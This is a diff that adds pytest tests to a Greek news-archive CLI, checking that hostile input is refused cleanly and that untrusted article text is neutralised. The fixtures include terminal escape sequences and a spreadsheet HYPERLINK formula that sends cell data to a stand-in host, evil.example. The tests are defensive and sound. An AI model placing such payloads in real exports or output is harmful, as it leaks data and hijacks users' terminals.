@@ -4,11 +4,19 @@ line."""
 from __future__ import annotations
 
 import csv
+import errno
+import hashlib
 import io
 import json
+import os
 import re
+import shlex
+import shutil
+import sqlite3
+import stat
 import subprocess
 import sys
+import tempfile
 import tomllib
 from collections.abc import Iterator
 from importlib.metadata import version
@@ -554,3 +562,541 @@ def test_savefixture_will_not_pair_the_record_with_another_page(tmp_path: Path) 
         [*savefixture_args(imerida()), "-o", str(tmp_path / "out.json")], "is another page"
     )
     assert [path.name for path in tmp_path.iterdir()] == ["out.html"]
+
+
+# --- hostile input: one line on stderr, the exit status, nothing written or changed --------------
+
+ARTICLE_URL = "https://www.thessaliatv.gr/news/185511/"
+SAVE = "savefixture thessaliatv {page} --fetched-at 2026-02-09T11:00+02:00"
+BAD_BYTE = b"\xff".decode("utf-8", "surrogateescape")
+"""What an argument holding a byte that is not UTF-8 becomes in sys.argv."""
+
+
+@pytest.fixture(scope="module")
+def workspace_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The files of `make_workspace` that take time to make, made once."""
+    folder = tmp_path_factory.mktemp("template")
+    archive = folder / "archive.db"
+    with Archive(f"sqlite:///{archive}") as opened:
+        for fixture in site_fixtures():
+            opened.upsert(extract(fixture.read_html(), fixture.url, fetched_at=fixture.fetched_at))
+    (folder / "corrupt.db").write_bytes(b"SQLite format 3\x00" + b"\x13" * 4000)
+    (folder / "notes.db").write_bytes(b"these are my notes, not a database\n")
+    (folder / "empty.db").write_bytes(b"")
+    other = sqlite3.connect(folder / "other.db")
+    other.execute("CREATE TABLE contacts (name TEXT)")
+    other.commit()
+    other.close()
+    future = folder / "future.db"
+    future.write_bytes(archive.read_bytes())
+    connection = sqlite3.connect(future)
+    connection.execute("UPDATE alembic_version SET version_num = 'ffff9999'")
+    connection.commit()
+    connection.close()
+    damaged = folder / "damaged.db"
+    with Archive(f"sqlite:///{damaged}") as opened:
+        for n in range(60):
+            opened.upsert(
+                extract(
+                    imerida().read_html(),
+                    f"https://www.thessaliatv.gr/news/{n}/",
+                    fetched_at=imerida().fetched_at,
+                )
+            )
+    data = bytearray(damaged.read_bytes())
+    data[3 * 4096 :] = b"\xff" * (len(data) - 3 * 4096)
+    damaged.write_bytes(bytes(data))
+    return folder
+
+
+def make_workspace(template: Path, folder: Path) -> dict[str, str]:
+    """A folder of hostile things, and the names the cases use for them."""
+    shutil.copytree(template, folder)
+    archive = folder / "archive.db"
+    (folder / "page.html").write_bytes(imerida().html.read_bytes())
+    (folder / "existing.jsonl").write_text("the previous export\n", encoding="utf-8")
+    (folder / "folder").mkdir()
+    os.mkfifo(folder / "fifo")
+    (folder / "fifo-link").symlink_to(folder / "fifo")
+    with (folder / "huge.html").open("wb") as huge:  # sparse: takes no disk space
+        huge.truncate(20 * 1024 * 1024 + 1)  # more than the default --max-bytes
+    return {
+        "db": str(archive),
+        "tmp": str(folder),
+        "page": str(folder / "page.html"),
+        "words": " ".join(f"λέξη{n}" for n in range(1000)),
+        "long": "α" * 300,
+        "bad": BAD_BYTE,
+    }
+
+
+def snapshot(folder: Path) -> dict[str, Any]:
+    """Everything in a folder: each entry's kind, permissions and content (or link target)."""
+    found: dict[str, Any] = {}
+    for path in sorted(folder.rglob("*")):
+        info = path.lstat()
+        if stat.S_ISLNK(info.st_mode):
+            content: Any = os.readlink(path)
+        elif stat.S_ISREG(info.st_mode):
+            content = hashlib.sha256(path.read_bytes()).hexdigest()
+        else:
+            content = None
+        found[str(path.relative_to(folder))] = (stat.S_IFMT(info.st_mode), info.st_mode, content)
+    return found
+
+
+def no_space(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Files opened for writing fail as on a full disk, after a little was written."""
+    real_fdopen = os.fdopen
+
+    class FullDisk:
+        def __init__(self, stream: Any) -> None:
+            self.stream, self.written = stream, 0
+
+        def write(self, data: Any) -> int:
+            self.written += len(data)
+            if self.written > 100:
+                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+            return int(self.stream.write(data))
+
+        def __getattr__(self, name: str) -> Any:
+            return getattr(self.stream, name)
+
+        def __enter__(self) -> FullDisk:
+            return self
+
+        def __exit__(self, *exc: object) -> None:
+            self.stream.close()
+
+    def fdopen(fd: int, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
+        stream = real_fdopen(fd, mode, *args, **kwargs)
+        return FullDisk(stream) if "w" in mode else stream
+
+    monkeypatch.setattr(os, "fdopen", fdopen)
+
+
+def no_permission(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The folder refuses new files (as a read-only folder does to anyone but root)."""
+
+    def mkstemp(*args: Any, **kwargs: Any) -> Any:
+        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))
+
+    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)
+
+
+def case(name: str, fragment: str, *args: str, code: int = 2, patch: Any = None) -> Any:
+    """One hostile command line (one string split as a shell does, or the words), what
+    stderr's one line says, the exit status, and what to break first (`patch(monkeypatch)`)."""
+    words = shlex.split(args[0]) if len(args) == 1 else list(args)
+    return pytest.param(words, fragment, code, patch, id=name)
+
+
+HOSTILE = [
+    # archives that are not ours, or not in a state we know
+    case("corrupt file", "not a database", "search λάρισα --db {tmp}/corrupt.db"),
+    case("not sqlite", "file is not a database", "export --db {tmp}/notes.db"),
+    case("empty file", "is not a newsarchive", "search λάρισα --db {tmp}/empty.db"),
+    case("foreign search", "is not a newsarchive", "search x --db {tmp}/other.db"),
+    case("foreign export", "another program's tables", "export --db {tmp}/other.db"),
+    case("foreign crawl", "not a newsarchive", "crawl thessaliatv --db {tmp}/other.db"),
+    case("unknown revision", "revision 'ffff9999'", "export --db {tmp}/future.db"),
+    case("unknown rev crawl", "ffff9999", "crawl --all --db {tmp}/future.db"),
+    case(
+        "damaged pages",
+        "cannot read archive",
+        "export --db {tmp}/damaged.db -o {tmp}/existing.jsonl",
+    ),
+    case("db is a folder", "it is a folder", "search x --db {tmp}/folder"),
+    case("db is a fifo", "not a regular file", "export --db {tmp}/fifo"),
+    case("empty --db search", "empty database URL", "search x --db ''"),
+    case("empty --db crawl", "empty database URL", "crawl thessaliatv --db ' '"),
+    case("in-memory crawl", "in-memory", "crawl thessaliatv --db sqlite://"),
+    case("in-memory demo", "in-memory", "demo --db sqlite:///:memory:"),
+    case("sqlite options", "options", "search x --db sqlite:///{db}?mode=ro"),
+    case("bad byte in pg url", "UTF-8", "search x --db postgresql://u@h/d{bad}"),
+    # queries and filters
+    case("1000 words", "give at most 50", "search {words} --db {db}"),
+    case("300-letter word", "at most 200", "search {long} --db {db}"),
+    case("bad byte query", "not valid text", "search a{bad} --db {db}"),
+    case("bad byte section", "not valid text", "export --db {db} --section {bad}"),
+    case("bad byte region", "is not one of", "export --db {db} --region {bad}"),
+    case("huge limit", "--limit", "search", "x", "--db", "{db}", "--limit", "9" * 20),
+    case("year 1", "out of range", "search x --db {db} --since 0001-01-01"),
+    case("year 10000", "out of range", "export --db {db} --until 9999-12-31T23:59-12:00"),
+    case("unknown site", "unknown site", "export --db {db} --site nosuch"),
+    case("unknown site search", "not valid", "search x --db {db} --site {bad}"),
+    # URLs
+    case("ipv6 url", "Invalid IPv6 URL", "extract {page} --url http://[x/"),
+    case("bad port", "Port out of range", "extract {page} --url http://e.gr:99999/"),
+    case("port 0", "port 0", "extract {page} --url http://e.gr:0/"),
+    case("bad byte url", "not valid text", "extract {page} --url http://e.gr/{bad}"),
+    case("escape in url", "control char", "extract", "{page}", "--url", "http://e.gr/\x1b[2J"),
+    case(
+        "fixture bad port",
+        "Port out of range",
+        SAVE + " --url https://www.thessaliatv.gr:99999/news/1/",
+    ),
+    case("fixture ipv6", "Invalid IPv6 URL", SAVE + " --url http://[x/"),
+    case(
+        "mirror ipv6",
+        "Invalid IPv6 URL",
+        "crawl thessaliatv --db {tmp}/new.db --mirror http://[x",
+    ),
+    case(
+        "mirror port",
+        "Port out of range",
+        "crawl thessaliatv --db {tmp}/new.db --mirror http://e.gr:99999",
+    ),
+    case(
+        "mirror host",
+        "not a host of any known site",
+        "crawl thessaliatv --db {tmp}/n.db --mirror a.gr=http://b.gr",
+    ),
+    # saved pages
+    case("page is a fifo", "not a regular file", "extract {tmp}/fifo --url {url}"),
+    case("page is a device", "not a regular", "extract /dev/zero --url {url}"),
+    case("page is a folder", "is a folder", "extract {tmp}/folder --url {url}"),
+    case("page too big", "--max-bytes", "extract {tmp}/huge.html --url {url}"),
+    case(
+        "page > max-bytes",
+        "larger than --max-bytes 1,000 bytes",
+        "extract {page} --url {url} --max-bytes 1000",
+    ),
+    case("no page", "give the saved page", "extract '' --url {url}"),
+    case("remote file url", "this machine", "extract file://host/x.html --url {url}"),
+    case(
+        "fixture of a fifo",
+        "not a regular file",
+        "savefixture thessaliatv {tmp}/fifo --url {url} --fetched-at 2026-02-09T11:00",
+    ),
+    case("fetched in year 1", "out of range", "extract {page} --url {url} --fetched-at 0001-01-01"),
+    case(
+        "fixture year 10000",
+        "out of range",
+        "savefixture thessaliatv {page} --fetched-at 9999-12-31T23:59:59-12:00 --url {url}",
+    ),
+    # output files
+    case("-o folder", "is a folder", "export --db {db} -o {tmp}/folder"),
+    case("-o folder/", "names a folder", "export --db {db} -o {tmp}/newfolder/"),
+    case("-o fifo", "not a regular file", "export --db {db} -o {tmp}/fifo"),
+    case("-o link to fifo", "not a regular file", "sites -o {tmp}/fifo-link"),
+    case("-o empty", "needs a file name", "export --db {db} -o ''"),
+    case(
+        "-o full disk",
+        "No space left on device",
+        "export --db {db} -o {tmp}/existing.jsonl",
+        patch=no_space,
+    ),
+    case(
+        "-o new, full disk",
+        "No space left on device",
+        "search λάρισα --db {db} -o {tmp}/new.json",
+        patch=no_space,
+    ),
+    case(
+        "extract, full disk",
+        "No space left on device",
+        "extract {page} --url {url} -o {tmp}/out.json",
+        patch=no_space,
+    ),
+    case(
+        "fixture, full disk",
+        "No space left on device",
+        SAVE + " --url {url} -o {tmp}/fixture.json",
+        patch=no_space,
+    ),
+    case(
+        "-o unwritable",
+        "Permission denied",
+        "export --db {db} -o {tmp}/existing.jsonl",
+        patch=no_permission,
+    ),
+    case(
+        "sites unwritable",
+        "Permission denied",
+        "sites --format csv -o {tmp}/sites.csv",
+        patch=no_permission,
+    ),
+    case("raw csv, table", "--raw-csv goes with --format csv", "sites --raw-csv"),
+    # demo: refused before serving or crawling
+    case("demo empty query", "empty search", "demo --db {tmp}/demo.db --query ''"),
+    case("demo 1000 words", "at most 50", "demo --db {tmp}/demo.db --query {words}"),
+    case("demo corrupt db", "not a database", "demo --db {tmp}/corrupt.db"),
+    case("demo empty db", "empty database URL", "demo --db ''"),
+    # what is shown of the input stays on one line
+    case("newline in a path", "no archive at", "search", "x", "--db", "{tmp}/a\nb.db"),
+    case(
+        "escape in a path", "cannot read", "extract", "{tmp}/\x1b]0;title\x07", "--url", ARTICLE_URL
+    ),
+]
+
+
+@pytest.mark.parametrize(("args", "fragment", "code", "patch"), HOSTILE)
+def test_hostile_input_is_refused_on_one_line_and_changes_nothing(
+    workspace_template: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    args: list[str],
+    fragment: str,
+    code: int,
+    patch: Any,
+) -> None:
+    names = {**make_workspace(workspace_template, tmp_path / "work"), "url": ARTICLE_URL}
+    monkeypatch.chdir(tmp_path / "work")  # a default archive would appear here
+    monkeypatch.delenv("NEWSARCHIVE_DATABASE_URL", raising=False)
+
+    def no_crawl(*args: Any, **kwargs: Any) -> Any:
+        raise AssertionError("the crawl started: the input should have been refused")
+
+    monkeypatch.setattr("newsarchive.crawl.run_crawl", no_crawl)
+    monkeypatch.setattr("newsarchive.fixture_server.serve", no_crawl)
+    before = snapshot(tmp_path)
+    if patch is not None:
+        patch(monkeypatch)
+    result = CliRunner().invoke(
+        main, [arg.format(**names) for arg in args], prog_name="newsarchive"
+    )
+    assert not isinstance(result.exception, AssertionError), result.exception
+    assert (result.exit_code, result.stdout) == (code, ""), (result.stderr, result.exception)
+    assert result.stderr.count("\n") == 1 and re.match(
+        r"newsarchive( \w+)?: error: ", result.stderr
+    )
+    assert fragment in result.stderr, result.stderr
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stderr), result.stderr
+    monkeypatch.undo()
+    assert snapshot(tmp_path) == before
+
+
+def test_stdout_on_a_full_disk_is_one_line() -> None:
+    for args in (["sites"], ["sites", "--format", "json"]):
+        with open("/dev/full", "w") as full:
+            done = subprocess.run(
+                [sys.executable, "-m", "newsarchive", *args],
+                stdout=full,
+                stderr=subprocess.PIPE,
+                text=True,
+                timeout=60,
+            )
+        assert done.returncode == 2
+        assert (
+            done.stderr == "newsarchive: error: cannot write to stdout: No space left on device\n"
+        )
+
+
+def test_an_argument_that_is_not_utf8_from_the_shell(filled_db: str, tmp_path: Path) -> None:
+    before = snapshot(tmp_path)
+    done = subprocess.run(
+        [sys.executable, "-m", "newsarchive", "search", b"\xce\xbb\xff", "--db", filled_db],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert done.returncode == 2 and done.stdout == ""
+    assert done.stderr.count("\n") == 1 and "is not valid text" in done.stderr
+    assert snapshot(tmp_path) == before
+
+
+# --- untrusted text: terminals and spreadsheets -------------------------------------------------
+
+HOSTILE_HEADLINE = "\x1b[2J\x1b]0;pwned\x07Λάρισα: \u202eτίτλος\x9b31m κι άλλο\r\nτέλος"
+FORMULA_LEAD = '=HYPERLINK("http://evil.example/?"&A1,"Λάρισα")'
+
+
+@pytest.fixture
+def hostile_db(tmp_path: Path) -> str:
+    """An archive holding an article whose text is made to attack terminals and spreadsheets."""
+    page = imerida()
+    made = extract(page.read_html(), page.url, fetched_at=page.fetched_at)
+    made.headline, made.lead, made.section = HOSTILE_HEADLINE, FORMULA_LEAD, "-2+3"
+    made.tags = ["@SUM(1+1)", "\tκαρτέλα", "+30 2410"]
+    url = f"sqlite:///{tmp_path / 'hostile.db'}"
+    with Archive(url) as archive:
+        archive.upsert(made)
+    return url
+
+
+@pytest.mark.parametrize("command", ["search", "extract"])
+def test_tables_show_no_control_characters(hostile_db: str, tmp_path: Path, command: str) -> None:
+    if command == "search":
+        code, out, err = run("search", "λάρισα", "--db", hostile_db)
+    else:
+        page = tmp_path / "page.html"
+        page.write_text(
+            imerida().read_html().replace("Ημερίδα", "&#27;]0;pwned&#7;\u202eΗμερίδα"),
+            encoding="utf-8",
+        )
+        code, out, err = run("extract", str(page), "--url", imerida().url, "--format", "table")
+    assert code == 0, err
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", out), out
+    shown = (
+        "[2J]0;pwnedΛάρισα: τίτλος31m κι άλλο τέλος" if command == "search" else "]0;pwnedΗμερίδα"
+    )
+    assert shown in out
+
+
+@pytest.mark.parametrize("output_format", ["json", "jsonl"])
+def test_json_keeps_the_text_exact(hostile_db: str, output_format: str) -> None:
+    code, out, _ = run("export", "--db", hostile_db, "--format", output_format)
+    assert code == 0
+    (data,) = records_of(output_format, out)
+    assert data["headline"] == HOSTILE_HEADLINE and data["lead"] == FORMULA_LEAD
+    assert "\x1b" not in out  # escaped by JSON
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_protected(hostile_db: str) -> None:
+    code, out, _ = run("export", "--db", hostile_db, "--format", "csv")
+    assert code == 0
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert row["lead"] == "'" + FORMULA_LEAD
+    assert row["section"] == "'-2+3"
+    # begins with ESC: data, not a formula (click's test runner reads \r\n as \n)
+    assert row["headline"] == HOSTILE_HEADLINE.replace("\r\n", "\n")
+    assert json.loads(row["tags"]) == ["@SUM(1+1)", "\tκαρτέλα", "+30 2410"]  # a JSON cell: `[`
+    assert row["canonical_url"].startswith("https://")
+    code, raw, _ = run("export", "--db", hostile_db, "--format", "csv", "--raw-csv")
+    assert code == 0
+    (row,) = csv.DictReader(io.StringIO(raw))
+    assert row["lead"] == FORMULA_LEAD and row["section"] == "-2+3"
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
+def test_every_formula_start_is_protected(value: str) -> None:
+    assert cli.csv_cell(value, protect=True) == "'" + value
+    assert cli.csv_cell(value, protect=False) == value
+    assert cli.csv_cell("Λάρισα " + value, protect=True) == "Λάρισα " + value
+
+
+# --- output files: symlinks, permissions, and reading never writes ----------------------------
+
+
+def test_output_through_a_symlink_writes_its_target(filled_db: str, tmp_path: Path) -> None:
+    target = tmp_path / "exports" / "latest.jsonl"
+    target.parent.mkdir()
+    target.write_text("old\n", encoding="utf-8")
+    link = tmp_path / "link.jsonl"
+    link.symlink_to(target)
+    code, _, err = run("export", "--db", filled_db, "-o", str(link))
+    assert code == 0, err
+    assert link.is_symlink() and link.resolve() == target
+    assert len(target.read_text(encoding="utf-8").splitlines()) == len(site_fixtures())
+    assert sorted(path.name for path in target.parent.iterdir()) == ["latest.jsonl"]
+
+
+def test_output_keeps_the_permissions_of_the_file_it_replaces(
+    filled_db: str, tmp_path: Path
+) -> None:
+    kept = tmp_path / "kept.csv"
+    kept.write_text("old\n", encoding="utf-8")
+    kept.chmod(0o640)
+    assert run("export", "--db", filled_db, "--format", "csv", "-o", str(kept))[0] == 0
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
+    new = tmp_path / "new.csv"
+    assert run("export", "--db", filled_db, "--format", "csv", "-o", str(new))[0] == 0
+    umask = os.umask(0)
+    os.umask(umask)
+    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask
+
+
+def test_read_commands_write_nothing_to_the_archive(filled_db: str, tmp_path: Path) -> None:
+    before = snapshot(tmp_path)
+    for args in (["search", "λάρισα"], ["export"], ["export", "--format", "csv"]):
+        code, _, err = run(*args, "--db", filled_db)
+        assert code == 0, err
+    assert snapshot(tmp_path) == before
+    assert filled_db.startswith("postgresql") or (tmp_path / "archive.db").exists()
+
+
+def without_privileges(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    """The command as a user that file permissions apply to (root without its DAC powers)."""
+    prefix: list[str] = []
+    if os.geteuid() == 0:
+        setpriv = shutil.which("setpriv")
+        if setpriv is None:
+            pytest.skip("running as root without setpriv: file permissions do not apply")
+        prefix = [setpriv, "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search"]
+    return subprocess.run(
+        [*prefix, sys.executable, "-m", "newsarchive", *args],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+
+
+@pytest.mark.parametrize("read_only", ["file", "folder"])
+def test_a_read_only_archive_can_be_searched_and_exported(tmp_path: Path, read_only: str) -> None:
+    folder = tmp_path / "ro"
+    folder.mkdir()
+    with Archive(f"sqlite:///{folder / 'archive.db'}") as archive:
+        for fixture in site_fixtures():
+            archive.upsert(extract(fixture.read_html(), fixture.url, fetched_at=fixture.fetched_at))
+    (folder / "archive.db").chmod(0o444)
+    if read_only == "folder":
+        folder.chmod(0o555)
+    before = snapshot(folder)
+    try:
+        searched = without_privileges("search", "λάρισα", "--db", "ro/archive.db", cwd=tmp_path)
+        exported = without_privileges("export", "--db", "ro/archive.db", cwd=tmp_path)
+        crawled = without_privileges("crawl", "thessaliatv", "--db", "ro/archive.db", cwd=tmp_path)
+        assert snapshot(folder) == before
+    finally:
+        folder.chmod(0o755)
+    assert searched.returncode == 0, searched.stderr
+    assert "Λάρισα" in searched.stdout
+    assert exported.returncode == 0 and len(exported.stdout.splitlines()) == len(site_fixtures())
+    assert crawled.returncode == 2 and crawled.stdout == ""
+    assert crawled.stderr.count("\n") == 1 and "read-only" in crawled.stderr
+
+
+def test_a_read_only_folder_refuses_an_output_file(filled_db: str, tmp_path: Path) -> None:
+    folder = tmp_path / "out"
+    folder.mkdir()
+    folder.chmod(0o555)
+    try:
+        done = without_privileges("export", "--db", filled_db, "-o", "out/x.jsonl", cwd=tmp_path)
+        assert list(folder.iterdir()) == []
+    finally:
+        folder.chmod(0o755)
+    assert done.returncode == 2 and done.stdout == ""
+    assert (
+        done.stderr
+        == f"newsarchive: error: cannot write out/x.jsonl: folder {folder} is not writable\n"
+    )
+
+
+# --- extract reads through the one record path ------------------------------------------------
+
+
+def test_extract_reads_the_page_through_from_response(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from newsarchive import extract as extraction
+
+    calls: list[tuple[bytes, Any, str]] = []
+    real = extraction.from_response
+
+    def spy(body: bytes, content_type: Any, url: str, **kwargs: Any) -> Any:
+        calls.append((body, content_type, url))
+        return real(body, content_type, url, **kwargs)
+
+    monkeypatch.setattr(extraction, "from_response", spy)
+    page = imerida()
+    page_1253 = tmp_path / "page.html"
+    page_1253.write_bytes(
+        page.read_html()
+        .replace('charset="utf-8"', 'charset="windows-1253"')
+        .encode("cp1253", "replace")
+    )
+    for path in (page.html, page_1253):
+        code, out, err = run("extract", str(path), "--url", page.url)
+        assert code == 0, err
+        assert json.loads(out)["headline"] == page.expected["headline"]
+    assert [call[2] for call in calls] == [page.url, page.url]
+    assert calls[0][0] == page.html.read_bytes()
+
+
+def test_the_crawl_summary_hides_the_database_password(capsys: pytest.CaptureFixture[str]) -> None:
+    assert cli.print_summary([], "postgresql+psycopg://news:s3cret@db.example/news")
+    out = capsys.readouterr().out
+    assert "s3cret" not in out and "news:***@db.example" in out
